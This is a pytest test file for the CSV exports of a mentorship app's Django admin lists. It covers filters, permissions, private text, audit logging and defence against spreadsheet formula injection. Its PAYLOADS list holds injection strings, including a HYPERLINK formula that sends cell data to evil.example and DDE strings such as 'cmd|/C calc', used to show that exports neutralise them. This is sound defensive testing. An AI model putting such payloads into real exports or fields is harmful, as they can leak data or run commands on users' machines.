"""Lists as CSV: all filtered rows, only columns that the reader may see, and no formula for a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC

import pytest
from django.contrib import admin
from django.contrib.admin.models import LogEntry
from django.urls import reverse
from django.utils import translation

from accounts.admin.export import ExportColumn, Exported, cell, lines
from accounts.models import MentorProfile, StaffRead, User
from accounts.roles import CONTACT
from matching.imports.reading import read_table, starts_formula
from matching.imports.values import items
from matching.models import HelpRequest, Match, WaitingRequest
from mentorship.models import Mentorship, Session
from tests.factories import (
    NOW,
    HelpRequestFactory,
    MatchFactory,
    MentorFactory,
    MentorshipFactory,
    SessionFactory,
    UserFactory,
)
from tests.helpers import log_in_with_second_factor

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("rung")]

MODELS = (User, MentorProfile, HelpRequest, WaitingRequest, Match, Mentorship, Session)
each_list = pytest.mark.parametrize("model", MODELS, ids=lambda model: model._meta.label_lower)
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1",
    "|calc",
    "%0A=1",
]


def rows_of(model) -> None:
    match = MatchFactory(status="asked")
    SessionFactory(mentorship=MentorshipFactory(mentor=match.mentor, goal=match.help_request.goal))
    HelpRequestFactory()


def address(model, query: str = "") -> str:
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export") + query


def exported(client, model, query: str = "") -> list[dict[str, str]]:
    answer = client.get(address(model, query))
    assert (answer.status_code, answer["Content-Type"]) == (200, "text/csv; charset=utf-8")
    text = answer.getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_each_list_of_people_and_their_work_can_be_exported():
    assert {model for model, page in admin.site._registry.items() if isinstance(page, Exported)} == set(MODELS)


@each_list
def test_a_list_is_exported_as_its_page_shows_it(model, admin_client):
    rows_of(model)
    listed = admin_client.get(reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist"))
    count = listed.context["cl"].result_count

    rows = exported(admin_client, model)

    assert len(rows) == count > 0
    assert ("this row" if count == 1 else f"these {count} rows") in listed.content.decode()
    assert list(rows[0]) == [column.title for column in admin.site._registry[model].export_columns]


@pytest.mark.parametrize("rows", [1, 3])
@each_list
def test_the_number_of_queries_does_not_grow(model, rows, admin_client, django_assert_max_num_queries):
    for _number in range(rows):
        rows_of(model)
    with django_assert_max_num_queries(12):
        exported(admin_client, model)


def test_the_filter_of_the_list_holds_on_all_its_pages(admin_client):
    MentorFactory.create_batch(3, status="paused")
    MentorFactory(status="approved")

    page = admin_client.get(reverse("admin:accounts_mentorprofile_changelist"), {"status__exact": "paused"})

    assert 'href="export/?status__exact=paused"' in page.content.decode()
    assert [row["Status"] for row in exported(admin_client, MentorProfile, "?status__exact=paused")] == ["Paused"] * 3
    UserFactory.create_batch(101, name="Twin")
    assert len(exported(admin_client, User, "?q=Twin")) == 101


@each_list
def test_columns_that_the_reader_may_not_see_are_left_out(model, admin_client, monkeypatch):
    rows_of(model)
    whole = list(exported(admin_client, model)[0])
    addresses = [column.title for column in admin.site._registry[model].export_columns if column.needs == CONTACT]
    assert addresses

    monkeypatch.setattr(User, "has_perm", lambda user, perm, obj=None: perm != CONTACT)
    few = list(exported(admin_client, model)[0])

    assert few == [title for title in whole if title not in addresses]


@each_list
def test_a_list_that_the_reader_may_not_see_is_not_exported(model, admin_client, monkeypatch):
    monkeypatch.setattr(User, "has_perm", lambda user, perm, obj=None: False)

    assert admin_client.get(address(model)).status_code == 403


def test_no_private_text_is_exported(admin_client):
    match = MatchFactory(status="asked", why_you="SECRET", help_request__situation="SECRET", help_request__gap="SECRET")
    SessionFactory(
        mentorship=MentorshipFactory(mentor=match.mentor), shared_notes="SECRET", place="https://secret.example/SECRET"
    )

    for model in MODELS:
        assert "SECRET" not in str(exported(admin_client, model)), model


def test_an_export_says_in_words_whose_turn_it_is(admin_client):
    MatchFactory(status="asked")

    assert [row["Whose turn"] for row in exported(admin_client, Match)] == ["the mentor's"]
    assert [row["Whose turn"] for row in exported(admin_client, HelpRequest)] == ["the mentor's"]


def test_a_mentor_is_exported_in_words(admin_client):
    MentorFactory(formats=["one_off", "ongoing"], paid=True, rate_amount=60, rate_currency="EUR", rate_per="session")

    [row] = exported(admin_client, MentorProfile)

    assert row["Formats"] == "one-off help; ongoing mentorship"
    assert (row["Status"], row["Price per"]) == ("Approved", "Session")


def test_a_request_is_exported_in_words(admin_client):
    HelpRequestFactory(format="one_off", goal__target_country="DE")

    [row] = exported(admin_client, HelpRequest)

    assert (row["Format"], row["Status"], row["Target country"]) == ("one-off help", "Open", "Germany")


def test_a_mentorship_and_its_sessions_are_exported_in_words(admin_client):
    mentorship = MentorshipFactory(format="one_off", status="ended_early", end_reason="no_time", ended_at=NOW)
    SessionFactory(mentorship=mentorship, status="missed_by_mentor")

    [row] = exported(admin_client, Mentorship)
    [session] = exported(admin_client, Session)

    assert (row["Format"], row["Status"]) == ("one-off help", "ended early")
    assert row["Reason of the end"] == mentorship.get_end_reason_display()
    assert session["Status"] == "missed by the mentor"


def test_a_role_is_exported_in_words(client):
    log_in_with_second_factor(client, UserFactory(role="owner"))

    [row] = exported(client, User)

    assert row["Role"] == "Owner"


def test_words_are_english_whatever_the_language_of_the_worker():
    status = ExportColumn("Status", "", lambda row: MentorProfile.Status.PAUSED.label)

    with translation.override("de"):
        [_header, line] = lines([status], [object()], UTC)

    assert line.strip() == '"Paused"'


def test_an_export_is_on_record(admin_client, admin_user):
    MentorFactory()

    exported(admin_client, MentorProfile)

    entry = LogEntry.objects.get(user=admin_user)
    assert entry.object_repr == "1 mentor profiles"
    assert "Address" in entry.change_message


@each_list
def test_a_read_of_each_address_is_on_record_for_its_person(model, admin_client, admin_user):
    rows_of(model)
    rows = exported(admin_client, model)
    titles = [column.title for column in admin.site._registry[model].export_columns if "Address" in column.title]

    addresses = {row[title] for row in rows for title in titles if "@" in row[title]}

    assert addresses - {admin_user.email}
    assert {read.person.email for read in StaffRead.objects.filter(reader=admin_user)} == addresses - {admin_user.email}


def test_an_export_without_addresses_is_no_read_of_them(client):
    log_in_with_second_factor(client, UserFactory(role="matchmaker"))
    MentorFactory()

    [row] = exported(client, MentorProfile)

    assert "Address" not in row
    assert StaffRead.objects.count() == 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_and_its_text_is_read_back(payload):
    [_header, line] = lines(
        [ExportColumn("a", "", lambda row: row), ExportColumn("b", "", lambda row: "x")], [payload], UTC
    )

    [[first, second]] = csv.reader(io.StringIO(line, newline=""))

    assert (first[0], second) == ("'", "x")
    assert not starts_formula(first)
    assert first[1:].replace("\\|", "|") == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_name_with_a_formula_is_harmless_in_the_file(payload, admin_client):
    MentorFactory(teaches=[payload])

    [row] = exported(admin_client, MentorProfile)

    assert row["Teaches"].startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_item_of_a_list_is_a_formula_wherever_it_is_cut(payload):
    [_header, line] = lines([ExportColumn("a", "", lambda row: row)], [["python", payload]], UTC)

    [[found]] = csv.reader(io.StringIO(line, newline=""))

    assert line.startswith('"')
    assert not starts_formula(found.partition("; ")[2])


def test_an_item_that_was_disarmed_is_read_back():
    [_header, line] = lines([ExportColumn("a", "", lambda row: row)], [["python", "=1+1"]], UTC)

    [[found]] = csv.reader(io.StringIO(line, newline=""))

    assert items(found) == ["python", "=1+1"]


@pytest.mark.parametrize("value", [-1, 1.5, True, None, "", "a=b", "Anna", "-1,5", "3 %"])
def test_ordinary_values_stay_as_they_are(value):
    plain = {True: "yes", None: ""}
    [_header, line] = lines([ExportColumn("a", "", lambda row: row)], [value], UTC)

    assert next(csv.reader([line])) in ([str(plain.get(value, value))], [])


def test_an_exported_list_can_be_imported_again(admin_client):
    MentorFactory(teaches=["=1+1", "sql"], user__name="Mia")

    answer = admin_client.get(address(MentorProfile))

    table = read_table(answer.getvalue())
    assert table.rows[0].cells[table.header.index("Teaches")] == "=1+1; sql"


def test_times_and_lists_are_written_plainly():
    assert cell(["a", "b"], UTC) == "a; b"


@each_list
@pytest.mark.parametrize("query", ["?nonsense=1", "?p=x", "?q=%00", "?o=x", "?q=" + "a" * 300, "?all=1&p=99"])
def test_odd_addresses_are_no_error_of_ours(model, query, admin_client):
    admin_client.raise_request_exception = False

    assert admin_client.get(address(model, query)).status_code in (200, 302, 400)
